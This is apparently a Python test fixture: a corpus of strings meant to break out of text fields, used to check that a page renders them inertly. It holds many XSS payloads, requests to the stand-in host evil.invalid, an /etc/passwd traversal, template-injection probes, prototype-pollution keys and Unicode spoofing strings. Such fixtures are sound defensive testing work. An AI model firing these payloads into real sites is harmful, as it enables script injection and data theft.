"""Strings that try to become something else than text: a corpus for every field that a model or a data set can fill.

Each one that would run calls ``window.__pwned.push``, or asks for an address at ``evil.invalid``; a page that shows
them all and did neither has shown text.
"""

from __future__ import annotations

import base64

RUN = "window.__pwned.push(1)"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--</script><script>{RUN}</script>-->",
    "<script src=https://evil.invalid/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><button>go</button></form>",
    f"<a href=javascript:{RUN}>click</a>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><script>{RUN}</script>",
    f"<img/src/onerror={RUN}>",
    f"<svg/onload={RUN}//",
    f"<x onclick={RUN} tabindex=1 id=x onfocus={RUN}>#x",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<select><noembed></select><script>{RUN}</script>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<svg><style><img src='</style><img src=x onerror={RUN}>'></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>click</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'/></svg>",
    "<img srcset='https://evil.invalid/x 2x' src=x>",
    "<video poster=https://evil.invalid/x.png autoplay>",
    "<link rel=preload as=image href=https://evil.invalid/x>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<a href=x ping=https://evil.invalid/ download>x</a>",
    "<img name=mmeval id=__pwned><form id=document><input name=body></form>",
    "<plaintext>",
    "<!--",
    "]]>",
    "<![CDATA[<b>x</b>]]>",
)
"""Elements and attributes."""

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "https://evil.invalid/pixel.png",
    "//evil.invalid/pixel.png",
    "\\\\evil.invalid\\share\\x.png",
    "file://evil.invalid/share/x.png",
    "../../../../../../etc/passwd",
    "blob:null/x",
    f"data:text/html;base64,{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}",
    f"\x01javascript:{RUN}",
    "https:evil.invalid/x.png",
    "/\\evil.invalid/x.png",
    "' onerror='" + RUN,
    '" onerror="' + RUN,
    "` onerror=`" + RUN,
)
"""What a browser would follow."""

CODE = (
    f"');{RUN};('",
    f'");{RUN};("',
    f'\\");{RUN};//',
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"*/{RUN}/*",
    f"\u2028{RUN}\u2029",
    f"\n{RUN}\n",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    f"\u0085{RUN}\u000b{RUN}",
    f"//# sourceMappingURL=https://evil.invalid/x.map\n{RUN}",
    f"<!--{RUN}\n-->{RUN}",
    "__proto__",
    "__proto__[x]",
    "valueOf",
    "then",
    "constructor",
    "toString",
    "hasOwnProperty",
)
"""What ends a string, or what a template or an engine evaluates."""

WRITING = (
    "\u202egnp.exe",
    "left\u2066\u2067isolated\u2069right",
    "zero\u200bwidth\u2060joined\ufeff",
    "\ufeffbyte order mark",
    "nul\0inside",
    "bell\x07 escape\x1b[31mred\x1b[0m back\x08\x08",
    "lone \ud800 and \udfff surrogates",
    "tag\U000e0041\U000e0042s",
    "a" * 5_000,
    "e" + "\u0301" * 300,
    "# heading\n**bold** [link](javascript:" + RUN + ") ![x](https://evil.invalid/x.png)",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "&#60;script&#62;&#x3c;img src=x&#x3e;",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
    "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
    "\u02bascript\uff1e\uff1cscript\uff1e",
    "#trial=x/0/0&text=y",
    "%",
    "%E0%A4%A",
    "",
    " ",
    "\r\n\r\n",
    "خوش آمدید שלום",
)
"""What bends, hides or breaks writing."""

INJECTIONS = (*MARKUP, *ADDRESSES, *CODE, *WRITING)
